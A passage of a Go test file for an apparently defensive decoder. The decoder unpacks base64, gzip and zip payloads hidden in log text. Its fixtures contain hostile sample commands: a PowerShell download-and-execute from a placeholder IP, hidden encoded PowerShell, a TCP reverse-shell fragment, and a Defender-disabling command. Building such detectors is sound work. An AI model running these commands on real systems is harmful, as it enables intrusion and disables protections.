		if len(r.Items) == 0 && r.Decoded != string(in) {
			t.Fatalf("no items but Decoded changed")
		}
		// The same bytes as a payload: the archive and decompressor paths get the
		// fuzzed bytes directly.
		enc := []byte("x " + b64s(in))
		r = Unpack(context.Background(), enc, opts)
		checkTree(t, enc, r, opts)
	})
}

func gzipWriterNamed(w *bytes.Buffer, name string) (*gzip.Writer, error) {
	g := gzip.NewWriter(w)
	g.Name = name
	return g, nil
}

// logWithPayloads is log text where every other line carries a base64 payload of
// 200–2000 characters: UTF-16LE PowerShell or gzip'd text.
func logWithPayloads(n int) []byte {
	r := rand.New(rand.NewPCG(7, 8))
	plain := logText(4 << 10)
	lines := bytes.SplitAfter(plain, []byte("\n"))
	words := strings.Fields("Get-Process Invoke-WebRequest -Uri http://203.0.113.9/p.ps1 -OutFile $env:TEMP Start-Process -WindowStyle Hidden New-Object Net.WebClient DownloadString IEX whoami /all net user")
	var b bytes.Buffer
	for i := 0; b.Len() < n; i++ {
		if i%2 == 0 {
			b.Write(lines[i%(len(lines)-1)])
			continue
		}
		size := 150 + r.IntN(1350) // decoded bytes: 200–2000 base64 characters
		var s strings.Builder
		for s.Len() < size {
			s.WriteString(words[r.IntN(len(words))])
			s.WriteByte(' ')
		}
		var payload []byte
		if i%4 == 1 {
			payload = utf16le(s.String()[:size/2])
			b.WriteString("4104 PowerShell ScriptBlock: powershell.exe -NoP -W Hidden -enc ")
		} else {
			payload = gz([]byte(s.String()))
			b.WriteString("cron[4411]: (root) CMD (echo ")
		}
		b.WriteString(b64s(payload))
		b.WriteString(" | sh)\n")
	}
	return b.Bytes()
}

func BenchmarkUnpackNoPayload(b *testing.B) {
	text := logText(16 << 20)
	b.SetBytes(int64(len(text)))
	b.ReportAllocs()
	for b.Loop() {
		if r := Unpack(context.Background(), text, Options{}); len(r.Items) != 0 {
			b.Fatalf("%d items in text without payloads", len(r.Items))
		}
	}
}

func BenchmarkUnpackBase64Heavy(b *testing.B) {
	text := logWithPayloads(4 << 20)
	want := Unpack(context.Background(), text, Options{})
	if want.Stopped != "" || len(want.Items) < 1000 {
		b.Fatalf("stopped %q, %d items", want.Stopped, len(want.Items))
	}
	b.SetBytes(int64(len(text)))
	b.ReportAllocs()
	for b.Loop() {
		if r := Unpack(context.Background(), text, Options{}); len(r.Items) != len(want.Items) {
			b.Fatalf("%d items", len(r.Items))
		}
	}
}

func TestUnpackLines(t *testing.T) {
	text := strings.Repeat("$c = New-Object System.Net.Sockets.TCPClient('10.1.1.1',4444); ", 6)
	enc := b64s(gz([]byte(text)))
	var wrappedEnc strings.Builder
	for i := 0; i < len(enc); i += 64 {
		wrappedEnc.WriteString(enc[i:min(i+64, len(enc))])
		if i+64 < len(enc) {
			wrappedEnc.WriteString("\r\n")
		}
	}
	one, two := b64s([]byte("first line payload text")), b64s([]byte("second line payload text"))
	tests := []struct {
		name  string
		in    string
		texts []string
	}{
		{"wrapped at 64 is one payload", "-----BEGIN-----\n" + wrappedEnc.String() + "\n-----END-----", []string{text}},
		{"wrapped, at the end of the text", wrappedEnc.String(), []string{text}},
		{"a payload ending a log line is not joined with the next line's first word", "a: " + one + "\nline 2: " + two + "\nend", []string{"first line payload text", "second line payload text"}},
		{"nor with a timestamp", "a: " + strings.TrimRight(one, "=") + "\n2024-01-10T05:48:09Z b: " + two, []string{"first line payload text", "second line payload text"}},
		{"a word ending the previous line is not part of it", "exec\n" + one, []string{"first line payload text"}},
	}
	for _, tt := range tests {
		r := Unpack(context.Background(), []byte(tt.in), Options{})
		checkTree(t, []byte(tt.in), r, Options{})
		var texts []string
		for _, it := range r.Items {
			texts = append(texts, it.Decoded)
		}
		if fmt.Sprintf("%q", texts) != fmt.Sprintf("%q", tt.texts) {
			t.Errorf("%s:\n got  %q\n want %q", tt.name, texts, tt.texts)
		}
	}
}

func TestUnpackCompressionLayers(t *testing.T) {
	text := []byte("seven layers of gzip around this text")
	b := text
	for range 7 {
		b = gz(b)
	}
	in := []byte(b64s(b))
	r := Unpack(context.Background(), in, Options{})
	if len(r.Items) != 1 || r.Items[0].Decoded != string(text) || r.Items[0].Encoding != "base64"+strings.Repeat(">gzip", 7)+">utf-8" {
		t.Fatalf("%+v", r.Items)
	}
	r = Unpack(context.Background(), in, Options{MaxDepth: 3})
	if len(r.Items) != 1 || r.Stopped != StopDepth || r.Items[0].Encoding != "base64>gzip>gzip>gzip>gzip" || r.Items[0].FileType != "gzip" {
		t.Errorf("MaxDepth 3: stopped %q, %+v", r.Stopped, r.Items)
	}
}

func TestUnpackDamagedStreams(t *testing.T) {
	text := strings.Repeat("Set-MpPreference -DisableRealtimeMonitoring $true; ", 4)
	full := gz([]byte(text))
	tests := []struct {
		name     string
		payload  []byte
		encoding string
		decoded  string
	}{
		{"gzip without its trailer", full[:len(full)-8], "base64>gzip>utf-8", text},
		{"gzip cut mid-stream keeps what inflated", full[:len(full)/2], "base64>gzip>utf-8", ""},
		{"gzip magic then garbage is not opened", append([]byte{0x1f, 0x8b, 0xff, 0xff}, make([]byte, 40)...), "base64>gzip", ""},
		{"zip without its directory is not opened", zipOf("a.txt", []byte(text))[:60], "base64>zip", ""},
	}
	for _, tt := range tests {
		in := []byte(b64s(tt.payload))
		r := Unpack(context.Background(), in, Options{})
		checkTree(t, in, r, Options{})
		if len(r.Items) != 1 || r.Stopped != "" {
			t.Errorf("%s: %d items, stopped %q", tt.name, len(r.Items), r.Stopped)
			continue
		}
		it := r.Items[0]
		if it.Encoding != tt.encoding || (tt.decoded != "" && it.Decoded != tt.decoded) {
			t.Errorf("%s: %s %q", tt.name, it.Encoding, it.Decoded)
		}
		if tt.decoded == "" && it.Text && !strings.HasPrefix(text, it.Decoded) {
			t.Errorf("%s: partial text %q", tt.name, it.Decoded)
		}
	}
}
